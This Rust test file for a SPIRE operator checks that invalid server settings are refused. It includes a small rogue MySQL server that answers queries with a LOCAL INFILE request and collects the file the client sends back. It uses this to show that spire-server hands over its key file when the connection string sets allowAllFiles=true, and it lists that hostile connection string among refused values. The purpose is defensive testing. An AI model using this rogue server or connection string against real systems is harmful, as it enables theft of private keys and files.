//! A database that asks for files. MySQL lets a server answer any query with the name of a file that
//! the client is to send; SPIRE's driver sends it where the connection string says `allowAllFiles`. So
//! nobody gets such a connection string past the API server, and no controller renders one.

use std::{
    collections::BTreeSet,
    fs,
    path::{Path, PathBuf},
    time::Duration,
};

use serde_json::{Value, json};
use testkit::{
    eventually, scratch_folder,
    stage::Stage,
    suite,
    tied::{self, Tied},
    toolbox,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
};
use trustplane::federate::decide::render::Component;

const PATIENCE: Duration = Duration::from_secs(60);
const CRD: &str = "crd/spireservers.operator.openshift.io";

/// Speaks as much MySQL as it takes to be asked something, and answers with the name of a file.
/// Sends what it got for it.
async fn thief(file: PathBuf) -> (u16, tokio::sync::mpsc::Receiver<Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let (sender, receiver) = tokio::sync::mpsc::channel(16);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let (sender, file) = (sender.clone(), file.clone());
            tokio::spawn(async move {
                if let Ok(Some(stolen)) = serve(stream, &file).await {
                    let _ = sender.send(stolen).await;
                }
            });
        }
    });
    (port, receiver)
}

const PING: u8 = 0x0e;
const QUERY: u8 = 0x03;
const OK: [u8; 7] = [0, 0, 0, 2, 0, 0, 0];
const LOCAL_INFILE: u8 = 0xfb;

async fn serve(mut stream: TcpStream, file: &Path) -> std::io::Result<Option<Vec<u8>>> {
    send(&mut stream, 0, &greeting()).await?;
    let (sequence, _login) = receive(&mut stream).await?;
    send(&mut stream, sequence + 1, &OK).await?;
    loop {
        let (sequence, command) = receive(&mut stream).await?;
        match command.first() {
            Some(&PING) => send(&mut stream, sequence + 1, &OK).await?,
            Some(&QUERY) => {
                let mut request = vec![LOCAL_INFILE];
                request.extend(file.display().to_string().bytes());
                send(&mut stream, sequence + 1, &request).await?;
                let mut stolen = Vec::new();
                loop {
                    let (_, part) = receive(&mut stream).await?;
                    if part.is_empty() {
                        return Ok(Some(stolen));
                    }
                    stolen.extend(part);
                }
            }
            _ => return Ok(None),
        }
    }
}

/// Protocol 10, with what drivers insist on: the 4.1 protocol and a way to prove a password.
fn greeting() -> Vec<u8> {
    const CAPABILITIES: u32 = 0x0008_a28f;
    let [low, high] = [CAPABILITIES as u16, (CAPABILITIES >> 16) as u16];
    let mut packet = vec![10];
    packet.extend(b"8.0.36\0");
    packet.extend(1_u32.to_le_bytes());
    packet.extend([b'a'; 8]);
    packet.push(0);
    packet.extend(low.to_le_bytes());
    packet.push(45);
    packet.extend(2_u16.to_le_bytes());
    packet.extend(high.to_le_bytes());
    packet.push(21);
    packet.extend([0; 10]);
    packet.extend([b'b'; 12]);
    packet.push(0);
    packet.extend(b"mysql_native_password\0");
    packet
}

async fn send(stream: &mut TcpStream, sequence: u8, payload: &[u8]) -> std::io::Result<()> {
    let length = (payload.len() as u32).to_le_bytes();
    let mut packet = vec![length[0], length[1], length[2], sequence];
    packet.extend(payload);
    stream.write_all(&packet).await
}

async fn receive(stream: &mut TcpStream) -> std::io::Result<(u8, Vec<u8>)> {
    let mut head = [0; 4];
    stream.read_exact(&mut head).await?;
    let length = u32::from_le_bytes([head[0], head[1], head[2], 0]) as usize;
    let mut payload = vec![0; length];
    stream.read_exact(&mut payload).await?;
    Ok((head[3], payload))
}

/// The real server with this connection string, and with a file of keys that it holds.
fn spire(connection: &str, keys: &Path) -> Tied {
    let folder = keys.parent().expect("a folder");
    let conf = json!({
        "server": {
            "bind_address": "127.0.0.1", "bind_port": "0", "trust_domain": "td-a.test",
            "data_dir": folder, "socket_path": folder.join("api.sock"),
        },
        "plugins": {
            "DataStore": [{ "sql": { "plugin_data": { "database_type": "mysql", "connection_string": connection } } }],
            "KeyManager": [{ "disk": { "plugin_data": { "keys_path": keys } } }],
            "NodeAttestor": [{ "join_token": { "plugin_data": {} } }],
        },
    });
    let file = folder.join("server.conf");
    suite::write_private(&file, &conf.to_string());
    let program = toolbox().unwrap_or_else(|why| panic!("{why}")).join("spire-server");
    let log = suite::subfolder("spire").join(format!("robbed-{}.log", suite::next_number()));
    let mut command = tied::command(&program, &log, Some(folder));
    command.args(["run", "-config"]).arg(&file);
    Tied::spawn(command).expect("spire-server starts")
}

#[tokio::test]
async fn the_real_server_hands_a_hostile_database_its_keys_where_the_connection_string_lets_it() {
    for (options, expected) in [
        ("&allowAllFiles=true", r#"{"keys":{},"of":"the trust domain"}"#),
        // Accepted by us: the driver then sends nothing.
        ("", ""),
    ] {
        let keys = scratch_folder().expect("a folder").join("keys.json");
        fs::write(&keys, r#"{"keys":{},"of":"the trust domain"}"#).expect("a file");
        let (port, mut stolen) = thief(keys.clone()).await;
        let connection = format!("spire:pass@tcp(127.0.0.1:{port})/spire?parseTime=true{options}");
        let _server = spire(&connection, &keys);
        let stolen = tokio::time::timeout(PATIENCE, stolen.recv()).await;
        let stolen = stolen.expect("the server asks its database").expect("the database is asked");
        assert_eq!(String::from_utf8_lossy(&stolen), expected, "{options}");
    }
}

/// The endpoint of the server whose fields are tried: it has most of them.
fn acme() -> Value {
    let acme = json!({
        "directoryUrl": "https://acme.test/directory", "domainName": "federation.td-a.test",
        "email": "admins@td-a.test", "tosAccepted": "true",
    });
    json!({ "bundleEndpoint": { "profile": "https_web", "httpsWeb": { "acme": acme } } })
}

/// What the API server takes, because it is a choice of the user.
const ONLY_THE_CONTROLLER: &str = "spec.federation.bundleEndpoint.httpsWeb.acme.tosAccepted";

/// A field with a value that is refused, the same field as it was, and where it stands.
fn refused() -> Vec<(&'static str, Value, Value)> {
    let robbed = "u@tcp(db:3306)/spire?parseTime=true&allowAllFiles=true";
    let peer = |profile: &str, url: &str, id: Value| {
        json!({
            "trustDomain": "b", "bundleEndpointUrl": url, "bundleEndpointProfile": profile,
            "endpointSpiffeId": id,
        })
    };
    let named = |name: &str| json!({ "trustDomain": name, "bundleEndpointUrl": "https://b", "bundleEndpointProfile": "https_web" });
    let peers = |peers: Vec<Value>| json!({ "federation": { "federatesWith": peers } });
    let no_peers = || json!({ "federation": { "federatesWith": null } });
    let usual = || json!({ "datastore": null });
    let text = |field: &str, value: &str| json!({ field: value });
    let endpoint = |value: Value| json!({ "federation": { "bundleEndpoint": value } });
    let https_web = |value: Value| endpoint(json!({ "httpsWeb": value }));
    let by_acme = |name: &str, value: &str| https_web(json!({ "acme": { name: value } }));
    let crowd = (0..51).map(|number| named(&format!("b{number}"))).collect();
    vec![
        (
            "spec.datastore.connectionString",
            json!({ "datastore": { "databaseType": "mysql", "connectionString": robbed } }),
            usual(),
        ),
        (
            "spec.datastore.connectionString",
            json!({ "datastore": { "connectionString": "/run/spire/data/keys.json" } }),
            usual(),
        ),
        ("spec.caValidity", text("caValidity", "1us"), text("caValidity", "24h")),
        (
            "spec.defaultX509Validity",
            text("defaultX509Validity", "3000000h"),
            text("defaultX509Validity", "1h"),
        ),
        (
            "spec.defaultJWTValidity",
            text("defaultJWTValidity", "1us"),
            text("defaultJWTValidity", "5m"),
        ),
        (
            "spec.jwtIssuer",
            text("jwtIssuer", "https://u:p@b/"),
            text("jwtIssuer", "https://oidc.td-a.test"),
        ),
        ("spec.trustDomain", text("trustDomain", "td a.test"), text("trustDomain", "td-a.test")),
        (
            "spec.datastore.databaseType",
            json!({ "datastore": { "databaseType": "oracle" } }),
            usual(),
        ),
        ("spec.datastore.maxOpenConns", json!({ "datastore": { "maxOpenConns": 1 } }), usual()),
        (
            "spec.labels[rbac.authorization.k8s.io/aggregate-to-view]",
            json!({ "labels": { "rbac.authorization.k8s.io/aggregate-to-view": "true" } }),
            json!({ "labels": null }),
        ),
        ("spec.labels[team]", json!({ "labels": { "team": "a b" } }), json!({ "labels": null })),
        (
            "spec.nodeSelector[a b]",
            json!({ "nodeSelector": { "a b": "c" } }),
            json!({ "nodeSelector": null }),
        ),
        (
            "spec.federation.routeHost",
            json!({ "federation": { "routeHost": "a b" } }),
            json!({ "federation": { "routeHost": null } }),
        ),
        (
            "spec.federation.bundleEndpoint.httpsWeb.acme.directoryUrl",
            by_acme("directoryUrl", "http://acme.test"),
            by_acme("directoryUrl", "https://acme.test/directory"),
        ),
        (
            "spec.federation.bundleEndpoint.httpsWeb.acme.domainName",
            by_acme("domainName", "a_b!"),
            by_acme("domainName", "federation.td-a.test"),
        ),
        (ONLY_THE_CONTROLLER, by_acme("tosAccepted", "false"), by_acme("tosAccepted", "true")),
        (
            "spec.federation.bundleEndpoint.httpsWeb",
            https_web(Value::Null),
            json!({ "federation": acme() }),
        ),
        (
            "spec.federation.bundleEndpoint.httpsWeb",
            https_web(json!({ "servingCert": {} })),
            https_web(json!({ "servingCert": null })),
        ),
        (
            "spec.federation.bundleEndpoint.httpsWeb",
            endpoint(json!({ "profile": "https_spiffe" })),
            endpoint(json!({ "profile": "https_web" })),
        ),
        ("spec.federation.federatesWith", peers(crowd), no_peers()),
        (
            "spec.federation.federatesWith[0].trustDomain",
            peers(vec![named("td-a.test")]),
            no_peers(),
        ),
        (
            "spec.federation.federatesWith[1].trustDomain",
            peers(vec![named("b"), named("b")]),
            no_peers(),
        ),
        ("spec.federation.federatesWith[0].trustDomain", peers(vec![named("b c")]), no_peers()),
        (
            "spec.federation.federatesWith[0].bundleEndpointUrl",
            peers(vec![peer("https_web", "https:///x", Value::Null)]),
            no_peers(),
        ),
        (
            "spec.federation.federatesWith[0].endpointSpiffeId",
            peers(vec![peer("https_spiffe", "https://b", Value::Null)]),
            no_peers(),
        ),
        (
            "spec.federation.federatesWith[0].endpointSpiffeId",
            peers(vec![peer("https_spiffe", "https://b", json!("https://b/spire/server"))]),
            no_peers(),
        ),
        // The last one stays until the rules are back, so its way back must be open then.
        (
            "spec.federation.federatesWith[0].endpointSpiffeId",
            peers(vec![peer("https_web", "https://b", json!("spiffe://b/spire/server"))]),
            no_peers(),
        ),
    ]
}

#[test]
fn every_field_that_the_controller_can_refuse_is_tried() {
    // Without indices and keys.
    let plain = |field: &str| -> String {
        field.split('[').map(|part| part.rsplit(']').next().unwrap_or_default()).collect()
    };
    let tried: BTreeSet<String> = refused().iter().map(|(field, ..)| plain(field)).collect();
    let known = [
        "spec.caValidity",
        "spec.datastore.connectionString",
        "spec.datastore.databaseType",
        "spec.datastore.maxOpenConns",
        "spec.defaultJWTValidity",
        "spec.defaultX509Validity",
        "spec.federation.bundleEndpoint.httpsWeb",
        "spec.federation.bundleEndpoint.httpsWeb.acme.directoryUrl",
        "spec.federation.bundleEndpoint.httpsWeb.acme.domainName",
        "spec.federation.bundleEndpoint.httpsWeb.acme.tosAccepted",
        "spec.federation.federatesWith",
        "spec.federation.federatesWith.bundleEndpointUrl",
        "spec.federation.federatesWith.endpointSpiffeId",
        "spec.federation.federatesWith.trustDomain",
        "spec.federation.routeHost",
        "spec.jwtIssuer",
        "spec.labels",
        "spec.nodeSelector",
        "spec.trustDomain",
    ];
    assert_eq!(tried, known.map(str::to_owned).into(), "all that src/federate names in a Problem");
}

/// Two patches in one.
pub fn both(mut first: Value, second: Value) -> Value {
    match (&mut first, second) {
        (Value::Object(first), Value::Object(second)) => {
            for (name, value) in second {
                let before = first.remove(&name).unwrap_or_default();
                first.insert(name, both(before, value));
            }
        }
        (first, second) => *first = second,
    }
    first
}

/// Takes all rules out of the CRD, as if it were an older one. Answers what it was.
async fn take_rules_away(stage: &Stage) -> Value {
    const RULES: [&str; 7] = [
        "x-kubernetes-validations",
        "x-kubernetes-list-type",
        "x-kubernetes-list-map-keys",
        "enum",
        "minimum",
        "maximum",
        "maxItems",
    ];
    fn strip(value: &mut Value) {
        match value {
            Value::Object(fields) => {
                for rule in RULES {
                    fields.remove(rule);
                }
                fields.values_mut().for_each(strip);
            }
            Value::Array(values) => values.iter_mut().for_each(strip),
            _ => {}
        }
    }
    let crd = stage.cluster.kubectl(&["get", CRD, "-o", "json"]).await.expect("the CRD");
    let mut crd: Value = serde_json::from_str(&crd).expect("JSON");
    crd["metadata"] = json!({ "name": crd["metadata"]["name"] });
    let mut stripped = crd.clone();
    strip(&mut stripped["spec"]);
    replace_crd(stage, &stripped).await;
    crd
}

async fn replace_crd(stage: &Stage, crd: &Value) {
    let file = stage.cluster.scratch().join(format!("crd-{}.json", suite::next_number()));
    suite::write_private(&file, &crd.to_string());
    stage.cluster.kubectl(&["replace", "-f", &file.display().to_string()]).await.expect("a CRD");
}

async fn try_change(stage: &Stage, change: &Value, dry: bool) -> Result<String, String> {
    let change = json!({ "spec": change }).to_string();
    let mut words = vec!["patch", "spireserver", "cluster", "--type=merge", "-p", &change];
    words.extend(dry.then_some("--dry-run=server"));
    stage.cluster.kubectl(&words).await
}

/// The server's objects. The same value before and after means that nothing was written.
async fn versions(stage: &Stage) -> Vec<Value> {
    let mut versions = Vec::new();
    for part in [Component::ServerConfigMap, Component::StatefulSet, Component::ClusterRole] {
        versions.push(stage.object(part).await["metadata"]["resourceVersion"].clone());
    }
    versions
}

#[tokio::test]
async fn what_is_refused_changes_nothing_whether_the_api_server_refuses_it_or_the_controller() {
    let stage = Stage::start("federation-refused").await;
    stage.create(acme()).await;
    let _controller = stage.controller(&[]).await;
    // The last that is made.
    stage.until_field(Component::Route, "/metadata/name", json!("spire-server-federation")).await;
    let before = versions(&stage).await;

    for (field, wrong, _) in refused().into_iter().filter(|it| it.0 != ONLY_THE_CONTROLLER) {
        let answer = try_change(&stage, &wrong, true).await;
        let why = answer.expect_err(field);
        assert!(why.contains(field.split('[').next().unwrap_or(field)), "{field}: {why}");
    }

    let crd = take_rules_away(&stage).await;
    let mut undo = json!({});
    for (field, wrong, right) in refused() {
        let change = both(undo, wrong);
        eventually(PATIENCE, &format!("without rules {field} is accepted"), async || {
            try_change(&stage, &change, false).await
        })
        .await;
        eventually(PATIENCE, &format!("the controller refuses {field}"), async || {
            let server = stage.server().await;
            let conditions = server["status"]["conditions"].as_array().cloned().unwrap_or_default();
            let found = conditions.into_iter().find(|it| it["type"] == "ConfigurationValid");
            let found = found.unwrap_or_default();
            let current = found["observedGeneration"] == server["metadata"]["generation"];
            let message = found["message"].as_str().unwrap_or_default();
            let told = found["status"] == "False" && message.contains(&format!("{field}: "));
            if current && told { Ok(()) } else { Err(found.to_string()) }
        })
        .await;
        assert_eq!(versions(&stage).await, before, "{field}");
        undo = right;
    }

    // The last one stands there still when the rules come back.
    replace_crd(&stage, &crd).await;
    let (_, wrong, _) = &refused()[2];
    eventually(PATIENCE, "the rules are back", async || {
        match try_change(&stage, wrong, true).await {
            Err(_) => Ok(()),
            Ok(_) => Err("accepted".to_owned()),
        }
    })
    .await;
    let other = json!({ "logLevel": "debug", "federation": { "managedRoute": "false" } });
    try_change(&stage, &other, true).await.expect("what stays as it was is not judged again");
    try_change(&stage, &undo, false).await.expect("it can be put right");
    stage.until_condition("ConfigurationValid", "True", "ValidConfiguration").await;
    assert_eq!(stage.refused(), Vec::<String>::new());
}
